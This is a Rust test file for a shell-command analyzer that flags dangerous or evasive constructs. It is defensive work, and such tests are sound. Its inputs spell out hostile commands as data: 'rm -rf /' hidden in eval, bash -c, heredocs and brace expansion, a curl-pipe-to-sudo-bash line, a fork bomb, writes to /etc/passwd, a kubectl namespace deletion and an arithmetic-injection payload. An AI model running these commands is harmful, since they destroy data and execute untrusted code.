//! Tests of the shell analysis.

use super::*;

fn argvs(src: &str) -> Vec<String> {
    analyze(src).commands.iter().map(|c| c.display()).collect()
}

#[test]
fn finds_every_simple_command() {
    assert_eq!(
        argvs("ls -la | grep x && echo ok; (cd /tmp) &"),
        ["ls -la", "grep x", "echo ok", "cd /tmp"]
    );
    assert_eq!(argvs("echo $(rm -rf /)"), ["rm -rf /", "echo $(rm -rf /)"]);
    assert_eq!(argvs("echo `rm x`"), ["rm x", "echo `rm x`"]);
    assert_eq!(argvs("cat <(rm y)"), ["rm y", "cat /dev/fd/63"]);
    assert_eq!(
        argvs("bash -c 'rm -rf /'"),
        ["bash -c rm -rf /", "rm -rf /"]
    );
    assert_eq!(argvs("eval \"rm -rf /\""), ["eval rm -rf /", "rm -rf /"]);
    assert_eq!(
        argvs("sudo timeout 5 rm x"),
        ["sudo timeout 5 rm x", "timeout 5 rm x", "rm x"]
    );
    assert_eq!(argvs("if true; then rm a; fi"), ["true", "rm a"]);
    assert_eq!(argvs("f() { rm b; }"), ["rm b"]);
    assert_eq!(argvs("bash <<EOF\nrm -rf /\nEOF"), ["bash", "rm -rf /"]);
    assert_eq!(argvs("X=$(rm z) true"), ["rm z", "true"]);
}

#[test]
fn redirects_and_pipes_are_recorded() {
    let a = analyze("{ echo x; } > /etc/passwd");
    assert_eq!(a.commands[0].writes[0].text, "/etc/passwd");
    let a = analyze("curl -s http://x | sudo bash");
    let bash = a.commands.iter().find(|c| c.program() == "bash").unwrap();
    assert_eq!(bash.piped_from.as_deref(), Some("curl"));
    assert!(a.problems.iter().any(|p| p.id == "stdin-code"));
    let a = analyze("echo hi 2>&1 >/dev/null");
    assert_eq!(a.commands[0].writes.len(), 1);
}

#[test]
fn unaccountable_constructs_are_problems() {
    for src in [
        "$CMD -rf /",
        "/usr/bin/r? x",
        "{rm,-rf,/}",
        "$(echo rm) x",
        "bash -c \"$X\"",
        "eval $X",
        "a b 'c",
    ] {
        assert!(!analyze(src).problems.is_empty(), "{src}");
    }
    assert!(
        analyze(":(){ :|:& };:")
            .problems
            .iter()
            .any(|p| p.id == "recursive-function")
    );
}

#[test]
fn hostile_nesting_fails_closed_quickly() {
    let deep = "$(".repeat(5000) + &")".repeat(5000);
    let started = std::time::Instant::now();
    let a = analyze(&deep);
    assert!(a.problems.iter().any(|p| p.id == "too-complex"));
    assert!(started.elapsed() < std::time::Duration::from_secs(1));
    // Just under the limit still parses without exhausting the stack.
    let ok = "echo ".to_string() + &"$(echo ".repeat(15) + &")".repeat(15);
    assert!(analyze(&ok).problems.iter().all(|p| p.id != "too-complex"));
    let ifs = "if true; then ".repeat(60) + "ls" + &"; fi".repeat(60);
    assert!(
        analyze(&ifs).problems.is_empty(),
        "{:?}",
        analyze(&ifs).problems
    );
}

#[test]
fn aliases_and_hashed_names_run_what_they_stand_for() {
    assert!(argvs("alias x='rm -rf'; x /").contains(&"rm -rf /".to_string()));
    assert!(
        argvs("hash -p /usr/bin/kubectl ls; ls delete ns")
            .contains(&"/usr/bin/kubectl delete ns".to_string())
    );
    // Bash does not expand an alias again inside its own text.
    assert_eq!(
        argvs("alias ls='ls -F'; ls a"),
        ["alias ls=ls -F", "ls -F", "ls -F a"]
    );
}

#[test]
fn code_kept_for_later_evaluation_is_flagged() {
    let ids =
        |src: &str| -> Vec<&'static str> { analyze(src).problems.iter().map(|p| p.id).collect() };
    assert!(ids("x='a[$(id)]'; echo $((x))").contains(&"deferred-code"));
    assert!(ids("[[ -v $x ]]").contains(&"indirect-code"));
    assert!(ids("test -v \"$x\"").contains(&"indirect-code"));
    assert!(ids("while :; do sleep 9 & done").contains(&"background-loop"));
    assert!(ids("x=5; echo $((x + 1)); [[ -v x ]]").is_empty());
}

#[test]
fn plain_assignments_are_remembered_for_later_commands() {
    let a = analyze("D=/etc; X=1 true; cat $D/passwd");
    let last = a.commands.last().unwrap();
    assert_eq!(last.vars.len(), 1);
    assert_eq!(last.vars[0].0, "D");
    assert_eq!(last.vars[0].1.text, "/etc");
}
